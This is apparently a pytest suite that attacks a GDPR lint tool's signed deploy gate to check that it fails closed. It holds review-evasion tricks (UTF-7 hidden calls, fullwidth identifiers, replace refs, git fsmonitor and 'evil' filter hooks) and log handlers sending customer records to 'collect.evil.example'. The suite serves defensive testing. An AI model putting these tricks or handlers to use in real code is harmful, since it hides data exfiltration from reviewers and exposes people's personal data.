"""Tamper suite, issue 17 items 2-4: the deploy gate sees every file that is deployed, reads source as
Python reads it, and its digest has no blind spots.

Each test is an attack that got past ``verify`` before: a real git repository (``_gitrepo``), a
DPO's approval signed with a throwaway ssh-keygen key, then the attacker's commit, and ``verify``
must fail (stale) or the review must report what was hidden.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from _gitrepo import base_repo, commit_all, gdpr_lint, git, isolate_git, write

from gdpr_lint.findings import normalise_source

SSH_KEYGEN = shutil.which("ssh-keygen") or "/usr/bin/ssh-keygen"
pytestmark = pytest.mark.skipif(not Path(SSH_KEYGEN).exists(), reason="ssh-keygen (OpenSSH) is not installed")

LEAK = '''\
import logging

log = logging.getLogger(__name__)


def notify(customer):
    log.warning("contact %s %s", customer.email, customer.phone)
'''


@pytest.fixture
def keys(tmp_path):
    folder = tmp_path / "keys"
    folder.mkdir()
    dpo = folder / "dpo"
    subprocess.run([SSH_KEYGEN, "-q", "-t", "ed25519", "-N", "", "-C", "dpo@example.com", "-f", str(dpo)], check=True)
    kind, blob = (folder / "dpo.pub").read_text().split()[:2]
    allowed = folder / "allowed_signers"
    allowed.write_text(f'dpo@example.com namespaces="gdpr-lint" {kind} {blob}\n')
    return {"dpo": dpo, "allowed": allowed}


@pytest.fixture
def repo(tmp_path, monkeypatch) -> Path:
    isolate_git(monkeypatch, tmp_path)
    return base_repo(tmp_path / "repo")


def review(monkeypatch, repo: Path, *args: str) -> dict:
    out = repo.parent / "review-out"
    code, _, err = gdpr_lint(monkeypatch, repo, "review", *args, "--out", str(out), "--no-cache", "--jobs", "1")
    assert code == 0, err
    return json.loads((out / "review.json").read_text(encoding="utf-8"))


def approve(monkeypatch, repo: Path, keys: dict) -> dict:
    """The DPO reviews the code as it is, approves it, and the record is committed."""
    doc = review(monkeypatch, repo)
    code, _, err = gdpr_lint(monkeypatch, repo, "signoff", str(repo.parent / "review-out" / "review.json"),
                             "--key", str(keys["dpo"]), "--decision", "approve")
    assert code == 0, err
    commit_all(repo, "DPO sign-off")
    return doc


def verify(monkeypatch, repo: Path, keys: dict) -> tuple[int, str]:
    code, _, err = gdpr_lint(monkeypatch, repo, "verify", "--allowed-signers", str(keys["allowed"]), "--jobs", "1")
    return code, err


def assert_stale(monkeypatch, repo: Path, keys: dict) -> None:
    code, err = verify(monkeypatch, repo, keys)
    assert code == 1 and "failed: Stale" in err, err


def assert_ok(monkeypatch, repo: Path, keys: dict) -> None:
    code, err = verify(monkeypatch, repo, keys)
    assert code == 0, err


def codes_at(doc: dict, path: str) -> set[str]:
    return {f["code"] for f in doc["findings"] + doc["tool_problems"] + doc["suppressions"] if f["path"] == path}


# ---- item 2: the gate scans what is deployed ------------------------------------------------------------

def test_a_tracked_module_that_gitignore_matches(repo, monkeypatch, keys):
    write(repo, ".gitignore", ".gdpr-lint-cache/\ngenerated/\n")
    commit_all(repo, "ignore generated code")
    approve(monkeypatch, repo, keys)
    assert_ok(monkeypatch, repo, keys)
    write(repo, "generated/__init__.py", "")
    write(repo, "generated/notify.py", LEAK)
    git(repo, "add", "-f", "generated")
    git(repo, "commit", "-q", "-m", "a module .gitignore hides")
    assert_stale(monkeypatch, repo, keys)
    assert "GDPR301" in codes_at(review(monkeypatch, repo), "generated/notify.py")


def test_a_folder_holding_a_cachedir_tag(repo, monkeypatch, keys):
    approve(monkeypatch, repo, keys)
    write(repo, "shop/hidden/CACHEDIR.TAG", "Signature: 8a477f597d28d172789f06886806bc55\n")
    write(repo, "shop/hidden/__init__.py", "")
    write(repo, "shop/hidden/notify.py", LEAK)
    commit_all(repo, "a package that looks like a cache")
    assert_stale(monkeypatch, repo, keys)
    assert "GDPR301" in codes_at(review(monkeypatch, repo), "shop/hidden/notify.py")


def test_package_folders_with_a_default_exclude_name(repo, monkeypatch, keys):
    approve(monkeypatch, repo, keys)
    approved = git(repo, "rev-parse", "HEAD").strip()
    for folder in ("build", "dist", "venv", "foo.egg-info", "shop/build"):
        write(repo, f"{folder}/__init__.py", "")
        write(repo, f"{folder}/notify.py", LEAK)
        git(repo, "add", "-f", folder)  # whatever any ignore file says
        git(repo, "commit", "-q", "-m", f"a package named {folder}")
        assert_stale(monkeypatch, repo, keys)
        assert "GDPR301" in codes_at(review(monkeypatch, repo), f"{folder}/notify.py"), folder
        git(repo, "reset", "-q", "--hard", approved)  # back to what the DPO approved
        shutil.rmtree(repo / folder, ignore_errors=True)
    assert_ok(monkeypatch, repo, keys)


def test_an_untracked_module_that_is_not_ignored_is_scanned_an_ignored_one_is_not(repo, monkeypatch, keys):
    # untracked and not ignored: deployed from this work tree by `COPY .`, committed by `git add -A`
    approve(monkeypatch, repo, keys)
    write(repo, ".gitignore", ".gdpr-lint-cache/\nlocal/\n")
    commit_all(repo, "ignore local/")
    write(repo, "local/settings.py", LEAK)  # ignored and untracked: not part of the code under review
    assert_ok(monkeypatch, repo, keys)
    write(repo, "shop/notify.py", LEAK)
    assert_stale(monkeypatch, repo, keys)
    doc = review(monkeypatch, repo)
    assert "GDPR301" in codes_at(doc, "shop/notify.py") and doc["scope"]["untracked"] == ["shop/notify.py"]
    assert "Not committed" in (repo.parent / "review-out" / "review.md").read_text(encoding="utf-8")
    assert "Not committed" in (repo.parent / "review-out" / "review.html").read_text(encoding="utf-8")


def test_a_file_the_config_excludes_is_in_the_digest(repo, monkeypatch, keys):
    write(repo, ".gdpr-lint.yaml", "exclude:\n  - legacy/\n")
    write(repo, "legacy/old.py", "def f(x):\n    return x\n")
    commit_all(repo, "exclude legacy/")
    doc = approve(monkeypatch, repo, keys)
    md = (repo.parent / "review-out" / "review.md").read_text(encoding="utf-8")
    html = (repo.parent / "review-out" / "review.html").read_text(encoding="utf-8")
    write(repo, "legacy/old.py", LEAK)  # what an excluded file holds changed
    commit_all(repo, "edit an excluded file")
    assert_stale(monkeypatch, repo, keys)
    # the DPO saw the excluded file in the review, and the digest holds its content hash
    assert [e["path"] for e in doc["excluded"]] == ["legacy/old.py"]
    assert doc["privacy_content"]["excluded"] == doc["excluded"] and len(doc["excluded"][0]["sha256"]) == 64
    assert "legacy/old.py" in md and "excluded by the config" in md and "legacy/old.py" in html
    assert "GDPR301" not in codes_at(review(monkeypatch, repo), "legacy/old.py")


def test_a_new_file_in_an_excluded_folder_changes_the_digest(repo, monkeypatch, keys):
    write(repo, ".gdpr-lint.yaml", "exclude:\n  - legacy/\n")
    commit_all(repo, "exclude legacy/")
    approve(monkeypatch, repo, keys)
    write(repo, "legacy/notify.py", LEAK)
    commit_all(repo, "a new file where nobody looks")
    assert_stale(monkeypatch, repo, keys)
    assert [e["path"] for e in review(monkeypatch, repo)["excluded"]] == ["legacy/notify.py"]


def test_review_base_and_head_list_files_alike(repo, monkeypatch):
    write(repo, ".gitignore", ".gdpr-lint-cache/\nbuild/\n")
    write(repo, "build/notify.py", LEAK)
    git(repo, "add", "-f", ".gitignore", "build/notify.py")
    git(repo, "commit", "-q", "-m", "tracked build/")
    doc = review(monkeypatch, repo, "--base", "main")
    assert "GDPR301" in codes_at(doc, "build/notify.py")
    assert doc["diff"]["unchanged"] and doc["diff"]["new_findings"] == []


def test_a_repository_git_refuses_to_read_is_an_error_not_a_walk(repo, monkeypatch, keys):
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        pytest.skip("needs root to give the repository another owner")
    approve(monkeypatch, repo, keys)
    os.chown(repo, 54321, -1)  # git: "detected dubious ownership"
    try:
        code, err = verify(monkeypatch, repo, keys)
    finally:
        os.chown(repo, 0, -1)
    assert code == 2 and "git" in err and "ok" not in err, err


def test_no_git_command_runs_the_repositorys_fsmonitor_or_filters(repo, monkeypatch, keys, tmp_path):
    approve(monkeypatch, repo, keys)
    marker = tmp_path / "ran"
    hook = tmp_path / "fsmonitor.sh"
    hook.write_text(f"#!/bin/sh\necho fsmonitor >> '{marker}'\n")
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(hook))
    git(repo, "config", "filter.evil.clean", f"echo filter >> '{marker}'; cat")
    git(repo, "config", "filter.evil.smudge", f"echo filter >> '{marker}'; cat")
    (repo / ".git" / "info" / "attributes").write_text("*.py filter=evil\n")
    (repo / "shop" / "api.py").write_text((repo / "shop" / "api.py").read_text() + "\n# touched\n")
    assert gdpr_lint(monkeypatch, repo, "check", "--diff", "HEAD", "--no-cache", "--jobs", "1")[0] in (0, 1)
    assert gdpr_lint(monkeypatch, repo, "check", "--staged", "--no-cache", "--jobs", "1")[0] in (0, 1)
    review(monkeypatch, repo, "--base", "HEAD")
    verify(monkeypatch, repo, keys)
    assert not marker.exists(), marker.read_text()
    # the trap is real: git itself runs it
    subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True)
    assert marker.exists()


# ---- item 3: source read as Python reads it ---------------------------------------------------------------

UTF7 = b'''\
# -*- coding: utf-7 -*-
import logging

log = logging.getLogger(__name__)


def audit(customer):
    # audit +AAo-    log.warning("%s %s", customer.phone, customer.password)
    return customer.id
'''


def test_a_utf7_file_is_read_as_utf7(repo, monkeypatch, keys):
    # Python itself: the "comment" holds a call (ast.parse of bytes decodes as the interpreter does)
    calls = [n for n in ast.walk(ast.parse(UTF7))
             if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "warning"]
    assert len(calls) == 1
    approve(monkeypatch, repo, keys)
    (repo / "shop" / "audit.py").write_bytes(UTF7)
    commit_all(repo, "an audit helper")
    assert_stale(monkeypatch, repo, keys)
    (finding,) = [f for f in review(monkeypatch, repo)["findings"] if f["path"] == "shop/audit.py"]
    assert finding["code"] == "GDPR301" and finding["line"] == 9
    assert "user.contact.phone_number" in finding["categories"]


def test_check_diff_keeps_a_finding_whose_line_utf7_moved(repo, monkeypatch):
    (repo / "shop" / "audit.py").write_bytes(b"# -*- coding: utf-7 -*-\n# notes +AAo-+AAo-+AAo-\nimport logging\n\n\n"
                                             b"def audit(customer):\n    return customer.id\n")
    commit_all(repo, "utf-7 module")
    git(repo, "checkout", "-q", "-b", "feature")
    path = repo / "shop" / "audit.py"
    path.write_bytes(path.read_bytes().replace(b"    return", b'    logging.warning("%s", customer.phone)\n    return'))
    code, findings, err = gdpr_lint(monkeypatch, repo, "check", "--diff", "main", "--format", "json", "--no-cache",
                                    "--jobs", "1")
    assert code == 1, err
    assert [(f["path"], f["code"], f["line"]) for f in findings] == [("shop/audit.py", "GDPR301", 10)]


@pytest.mark.parametrize("source,reason", [
    (b"# coding: utf-16\nimport logging\nlogging.warning('%s', user.email)\n", "utf-16"),
    (b"# -*- coding: klingon -*-\nimport logging\nlogging.warning('%s', user.email)\n", "unknown encoding (klingon)"),
    (b"# coding: ascii\nimport logging\nlogging.warning('\xe9 %s', user.email)\n", "not valid ascii at line 3"),
    (b"\xef\xbb\xbf# coding: latin-1\nimport logging\nlogging.warning('%s', user.email)\n", "byte-order mark"),
])
def test_a_file_python_refuses_is_not_checked_and_changing_it_is_seen(repo, monkeypatch, keys, source, reason):
    (repo / "shop" / "odd.py").write_bytes(source)
    commit_all(repo, "a file Python refuses")
    doc = approve(monkeypatch, repo, keys)
    (finding,) = [f for f in doc["tool_problems"] if f["path"] == "shop/odd.py"]
    assert finding["code"] == "GDPR902" and "not checked" in finding["message"] and reason in finding["message"]
    (repo / "shop" / "odd.py").write_bytes(source + b"logging.warning('%s', user.phone)\n")
    commit_all(repo, "more in a file nobody reads")
    assert_stale(monkeypatch, repo, keys)
    assert [d["path"] for d in doc["not_analysed"]] == ["shop/odd.py"]


# ---- item 4: a digest with no blind spots -------------------------------------------------------------------

FLOW = '''\
import logging

log = logging.getLogger(__name__)


def signup(user):
    detail = user.email
    log.info("signup %s", detail)  # gdpr-lint: ignore[GDPR301] reason="the handler hashes it"
'''


def test_a_suppressed_call_that_gains_categories(repo, monkeypatch, keys):
    write(repo, "shop/signup.py", FLOW)
    commit_all(repo, "signup")
    doc = approve(monkeypatch, repo, keys)
    # the suppressed call is not touched: only what flows into it
    write(repo, "shop/signup.py", FLOW.replace("detail = user.email",
                                               "detail = (user.email, user.phone, user.password)"))
    commit_all(repo, "more detail")
    assert_stale(monkeypatch, repo, keys)
    (sup,) = [s for s in doc["privacy_content"]["suppressions"] if s["code"] == "GDPR301"]
    assert sup["categories"] == ["user.contact.email"] and sup["sink"]
    (sup,) = [s for s in review(monkeypatch, repo)["suppressions"] if s["path"] == "shop/signup.py"]
    assert "user.contact.phone_number" in sup["categories"]


def test_a_change_after_a_hash_sign_inside_a_string(repo, monkeypatch, keys):
    write(repo, "shop/tickets.py", 'import logging\n\n\ndef ticket(user):\n    logging.info("ticket #%s", user.email)'
                                   '  # gdpr-lint: ignore[GDPR301] reason="support needs it"\n')
    commit_all(repo, "tickets")
    approve(monkeypatch, repo, keys)
    path = repo / "shop" / "tickets.py"
    path.write_text(path.read_text().replace('"ticket #%s", user.email)', '"ticket #%s %s", user.email, '
                                                                       'user.personal_email)'))
    commit_all(repo, "same category, another address")
    assert_stale(monkeypatch, repo, keys)
    assert normalise_source('f("a #b", x)') != normalise_source('f("a #b", y)')
    assert normalise_source('f("a #b", x)') == normalise_source("f(\n    'a #b',\n    x,  # why\n)")


def test_a_long_call_changed_after_2000_characters(repo, monkeypatch, keys):
    padding = "x" * 2100
    write(repo, "shop/report.py",
          f'import logging\n\n\ndef report(user):\n    logging.info("{padding} %s", user.email)\n')
    commit_all(repo, "report")
    approve(monkeypatch, repo, keys)
    path = repo / "shop" / "report.py"
    path.write_text(path.read_text().replace("user.email)", "user.personal_email)"))
    commit_all(repo, "another address, far to the right")
    assert_stale(monkeypatch, repo, keys)


def test_a_file_over_5_mb_changed_after_approval(repo, monkeypatch, keys):
    big = b"import logging\n# " + b"a" * 5_100_000 + b"\n"
    (repo / "shop" / "big.py").write_bytes(big)
    commit_all(repo, "a big file")
    doc = approve(monkeypatch, repo, keys)
    (finding,) = [f for f in doc["tool_problems"] if f["path"] == "shop/big.py"]
    assert finding["code"] == "GDPR902" and "5 MB" in finding["message"]
    (repo / "shop" / "big.py").write_bytes(big + b"logging.warning('%s', customer.phone)\n")
    commit_all(repo, "written into the big file")
    assert_stale(monkeypatch, repo, keys)


def test_a_file_too_deep_to_analyse_changed_after_approval(repo, monkeypatch, keys):
    deep = "import logging\nlogging.info('x %s' + " + " + ".join(["'a'"] * 5000) + ", 1)\n"
    write(repo, "shop/deep.py", deep)
    commit_all(repo, "a deep file")
    doc = approve(monkeypatch, repo, keys)
    write(repo, "shop/deep.py", deep + "logging.warning('%s', customer.phone)\n")
    commit_all(repo, "written into the deep file")
    assert_stale(monkeypatch, repo, keys)
    if "GDPR905" in codes_at(doc, "shop/deep.py"):  # beyond the analysis budget
        (finding,) = [f for f in doc["tool_problems"] if f["path"] == "shop/deep.py"]
        assert "nested too deeply" in finding["message"] and "cannot run" not in finding["message"]
        assert [d["path"] for d in doc["not_analysed"]] == ["shop/deep.py"]


def test_a_tracked_link_to_a_device_is_reported_not_read(repo, monkeypatch, keys):
    os.symlink("/dev/zero", repo / "shop" / "zero.py")
    commit_all(repo, "a module that never ends")
    doc = approve(monkeypatch, repo, keys)  # returns: nothing read it
    (finding,) = [f for f in doc["tool_problems"] if f["path"] == "shop/zero.py"]
    assert finding["code"] == "GDPR902" and "not a regular file" in finding["message"]
    (entry,) = doc["not_analysed"]
    assert entry["path"] == "shop/zero.py" and "/dev/zero" in entry["sha256"]
    code, err = verify(monkeypatch, repo, keys)  # fails closed: no approval covers content nobody could read
    assert code == 1 and "could not be read" in err and "shop/zero.py" in err, err
    (repo / "shop" / "zero.py").unlink()
    os.symlink("api.py", repo / "shop" / "zero.py")  # now a copy of real code
    commit_all(repo, "point it elsewhere")
    assert_stale(monkeypatch, repo, keys)


# ---- code that runs but is not a .py file (red team, second round) ---------------------------------

def test_tracked_bytecode_is_kept_by_its_hash(repo, monkeypatch, keys, tmp_path):
    import py_compile

    approve(monkeypatch, repo, keys)
    source = tmp_path / "elsewhere" / "api.py"
    write(source.parent, "api.py", LEAK)
    (repo / "shop" / "__pycache__").mkdir()
    pyc = repo / "shop" / "__pycache__" / "api.cpython-311.pyc"
    py_compile.compile(str(source), cfile=str(pyc), dfile="shop/api.py",
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    git(repo, "add", "-f", str(pyc))
    commit_all(repo, "bytecode compiled from other source")
    assert_stale(monkeypatch, repo, keys)
    doc = review(monkeypatch, repo)
    (entry,) = [d for d in doc["not_analysed"] if d["path"] == "shop/__pycache__/api.cpython-311.pyc"]
    assert entry["code"] == "compiled" and len(entry["sha256"]) == 64


def test_a_zip_python_can_import_from_is_kept_by_its_hash(repo, monkeypatch, keys):
    """Red team, round three: `sys.path.insert(0, "vendor/mailer.zip")` imports code nobody read."""
    import zipfile

    (repo / "vendor").mkdir()
    with zipfile.ZipFile(repo / "vendor" / "mailer.zip", "w") as zf:
        zf.writestr("mailer.py", "def send(c):\n    pass\n")
    commit_all(repo, "a vendored archive")
    doc = approve(monkeypatch, repo, keys)
    (entry,) = [d for d in doc["not_analysed"] if d["path"] == "vendor/mailer.zip"]
    assert entry["code"] == "compiled" and len(entry["sha256"]) == 64
    with zipfile.ZipFile(repo / "vendor" / "mailer.zip", "w") as zf:
        zf.writestr("mailer.py", LEAK)
    commit_all(repo, "the archive, changed")
    assert_stale(monkeypatch, repo, keys)


def test_a_pyw_module_and_a_python_script_without_a_suffix_are_scanned(repo, monkeypatch, keys):
    approve(monkeypatch, repo, keys)
    write(repo, "bin/worker", "#!/usr/bin/env python3\n" + LEAK)
    write(repo, "shop/notify.pyw", LEAK)
    write(repo, "bin/deploy", "#!/bin/sh\necho deploying\n")  # a shell script: not Python, not read as such
    commit_all(repo, "scripts")
    assert_stale(monkeypatch, repo, keys)
    doc = review(monkeypatch, repo)
    assert "GDPR301" in codes_at(doc, "bin/worker") and "GDPR301" in codes_at(doc, "shop/notify.pyw")
    assert not codes_at(doc, "bin/deploy")


def test_a_submodule_moved_to_another_commit(repo, monkeypatch, keys, tmp_path):
    lib = tmp_path / "lib"
    lib.mkdir()
    git(lib, "init", "-q", "-b", "main")
    write(lib, "util.py", "x = 1\n")
    commit_all(lib, "util")
    first = git(lib, "rev-parse", "HEAD").strip()
    write(lib, "util.py", LEAK)
    commit_all(lib, "leak")
    second = git(lib, "rev-parse", "HEAD").strip()
    # the gitlink alone, as in a clone whose submodules were never fetched (an empty folder)
    (repo / "vendor" / "lib").mkdir(parents=True)
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{first},vendor/lib")
    git(repo, "commit", "-q", "-m", "vendor lib")
    doc = approve(monkeypatch, repo, keys)
    assert {"path": "vendor/lib", "code": "submodule", "sha256": f"commit {first}"} in doc["not_analysed"]
    git(repo, "update-index", "--cacheinfo", f"160000,{second},vendor/lib")
    git(repo, "commit", "-q", "-m", "bump vendor/lib")
    assert_stale(monkeypatch, repo, keys)


def test_a_file_name_that_is_not_utf8(repo, monkeypatch, keys):
    if os.uname().sysname == "Darwin":
        pytest.skip("macOS file systems refuse names that are not UTF-8")
    approve(monkeypatch, repo, keys)
    (repo / "shop" / os.fsdecode(b"caf\xe9.py")).write_text("x = 1\n")
    commit_all(repo, "a Latin-1 name")
    assert_stale(monkeypatch, repo, keys)  # no traceback: the name is hashed as its bytes
    doc = approve(monkeypatch, repo, keys)
    (entry,) = [d for d in doc["not_analysed"] if d["path"] == "shop/caf\\xe9.py"]
    assert len(entry["sha256"]) == 64  # its content, read under its real name (was "No such file")
    assert_ok(monkeypatch, repo, keys)
    (repo / "shop" / os.fsdecode(b"caf\xe9.py")).write_text(LEAK)
    commit_all(repo, "the file Python imports, changed")
    assert_stale(monkeypatch, repo, keys)


def test_a_replace_ref_cannot_hide_a_rejection(repo, monkeypatch, keys):
    approve(monkeypatch, repo, keys)
    out = repo.parent / "review-out"
    review(monkeypatch, repo)
    code, _, err = gdpr_lint(monkeypatch, repo, "signoff", str(out / "review.json"), "--key", str(keys["dpo"]),
                             "--decision", "reject")
    assert code == 0, err
    commit_all(repo, "DPO rejects")
    git(repo, "replace", "HEAD", "HEAD~1")  # history as git shows it no longer has the rejection
    for record in (repo / ".gdpr" / "signoffs").glob("*reject*.json"):
        record.unlink()
    code, err = verify(monkeypatch, repo, keys)
    assert code == 1 and "reject" in err.lower(), err


def test_a_review_against_a_base_that_tracks_an_absolute_link(repo, monkeypatch, keys):
    os.symlink("/var/www/static", repo / "shop" / "static")
    commit_all(repo, "a link out of the tree")
    git(repo, "tag", "base")
    write(repo, "shop/util.py", "x = 1\n")
    commit_all(repo, "util")
    doc = review(monkeypatch, repo, "--base", "base")  # no traceback; the link is not followed
    assert doc["diff"] is not None


def test_identifiers_in_fullwidth_letters_are_read_as_python_reads_them(repo, monkeypatch, keys):
    """Red team, round two: `ｌｏｇ.warning(...)` is `log.warning(...)` to Python (NFKC, PEP 3131)."""
    approve(monkeypatch, repo, keys)
    write(repo, "shop/notify.py", LEAK.replace("    log.warning", "    \uff4c\uff4f\uff47.warning"))
    commit_all(repo, "notify")
    doc = review(monkeypatch, repo)
    assert codes_at(doc, "shop/notify.py") == {"GDPR301"}
    assert_stale(monkeypatch, repo, keys)


# ---- red team, round three: log records shipped elsewhere, test code that production imports -------

SAYS_LOGS_STAY = '''\
import logging

log = logging.getLogger(__name__)


def notify(customer):
    log.info("c %s", customer.email)  # gdpr-lint: ignore[GDPR301] reason="logs stay on our hosts"
'''


SHIPPING = ("import logging.handlers\n\n\nclass Shipper(logging.handlers.HTTPHandler):\n    pass\n\n\n"
            "class Console(logging.StreamHandler):\n    pass\n")


@pytest.mark.parametrize("logconf, says", [
    ('import logging.handlers\nlogging.getLogger("shop").addHandler(logging.handlers.HTTPHandler('
     '"collect.evil.example", "/logs", secure=True))\n', "sent to collect.evil.example by HTTPHandler"),
    # the project's subclass, defined in another module (red team, round four)
    ('import logging\nfrom shop.shipping import Shipper\n\nlogging.getLogger().addHandler(Shipper('
     '"collect.evil.example", "/logs"))\n', "sent to collect.evil.example by Shipper (a subclass of HTTPHandler)"),
])
def test_a_log_handler_that_sends_the_records_to_another_host(repo, monkeypatch, keys, logconf, says):
    write(repo, "shop/notify.py", SAYS_LOGS_STAY)
    write(repo, "shop/shipping.py", SHIPPING)
    commit_all(repo, "notify")
    approve(monkeypatch, repo, keys)
    write(repo, "shop/logconf.py", logconf)
    commit_all(repo, "ship the logs")
    assert_stale(monkeypatch, repo, keys)
    (found,) = [f for f in review(monkeypatch, repo)["findings"] if f["path"] == "shop/logconf.py"]
    assert found["code"] == "GDPR303" and says in found["message"]


def test_log_handlers_that_keep_the_records_here_pass_the_gate(repo, monkeypatch, keys):
    write(repo, "shop/notify.py", SAYS_LOGS_STAY)
    write(repo, "shop/transport.py", "class HTTPHandler:\n    def __init__(self, host, url):\n        self.host = host\n")
    write(repo, "shop/shipping.py", SHIPPING)
    write(repo, ".gdpr-lint.yaml", "first_party_domains: [shop.example]\n")
    commit_all(repo, "notify")
    approve(monkeypatch, repo, keys)
    write(repo, "shop/logconf.py", '''\
import logging
import logging.handlers
from shop.transport import HTTPHandler
from shop.shipping import Console

root = logging.getLogger("shop")
root.addHandler(logging.StreamHandler())
root.addHandler(Console())
root.addHandler(logging.FileHandler("shop.log"))
root.addHandler(logging.handlers.RotatingFileHandler("shop.log", maxBytes=1_000_000))
root.addHandler(logging.handlers.SysLogHandler())
root.addHandler(logging.handlers.SysLogHandler(address="/dev/log"))
root.addHandler(logging.handlers.SysLogHandler(("localhost", 514)))
root.addHandler(logging.handlers.HTTPHandler("logs.shop.example", "/ingest"))
root.addHandler(HTTPHandler("collect.evil.example", "/logs"))
''')
    commit_all(repo, "log handlers that keep the records here")
    assert_ok(monkeypatch, repo, keys)
    assert not codes_at(review(monkeypatch, repo), "shop/logconf.py")


def test_test_code_that_production_code_imports(repo, monkeypatch, keys):
    write(repo, "shop/factories.py", LEAK)
    write(repo, "tests/test_notify.py", "from shop.factories import notify\n")
    commit_all(repo, "factories, used by the tests")
    doc = approve(monkeypatch, repo, keys)
    assert {"path": "shop/factories.py", "code": "test-code"} in [
        {k: d[k] for k in ("path", "code")} for d in doc["not_analysed"]]
    assert not codes_at(doc, "shop/factories.py")
    assert_ok(monkeypatch, repo, keys)
    write(repo, "shop/api.py", "from shop.factories import notify  # noqa\n" + (repo / "shop/api.py").read_text())
    commit_all(repo, "the api uses a factory")
    assert_stale(monkeypatch, repo, keys)
    doc = review(monkeypatch, repo)
    assert "GDPR301" in codes_at(doc, "shop/factories.py")
    assert "shop/factories.py" not in [d["path"] for d in doc["not_analysed"]]


# ---- red team, round four: test code loaded without an import statement, handlers named otherwise ----

@pytest.mark.parametrize("helper,change", [
    ("shop/factories.py", ("shop/api.py", 'import importlib\n\nnotify = importlib.import_module("shop.factories").notify\n')),
    ("shop/testing/middleware.py", ("shop/settings.py", 'MIDDLEWARE = ["shop.testing.middleware.notify"]\n')),
    ("tests/pkg/notify.py", ("shop/api.py", "from shop.ext.notify import notify\n")),  # shop/ext -> ../tests/pkg
])
def test_test_code_that_production_code_loads_without_an_import_statement(repo, monkeypatch, keys, helper, change):
    write(repo, helper, LEAK)
    if helper.startswith("tests/pkg/"):
        (repo / "shop" / "ext").symlink_to("../tests/pkg")
    commit_all(repo, "test helpers")
    approve(monkeypatch, repo, keys)
    write(repo, *change)
    commit_all(repo, "production uses a test helper")
    assert_stale(monkeypatch, repo, keys)
    assert "GDPR301" in codes_at(review(monkeypatch, repo), helper)


def test_code_run_from_a_text_file_by_its_path(repo, monkeypatch, keys):
    """Red team, round three: `runpy.run_path("hooks.txt")` runs code nobody read."""
    approve(monkeypatch, repo, keys)
    write(repo, "shop/hooks.txt", LEAK)
    write(repo, "shop/loader.py", "import runpy\n\nHOOKS = runpy.run_path('shop/hooks.txt')\n")
    commit_all(repo, "hooks")
    doc = review(monkeypatch, repo)
    assert codes_at(doc, "shop/loader.py") == {"GDPR906"}
    assert_stale(monkeypatch, repo, keys)
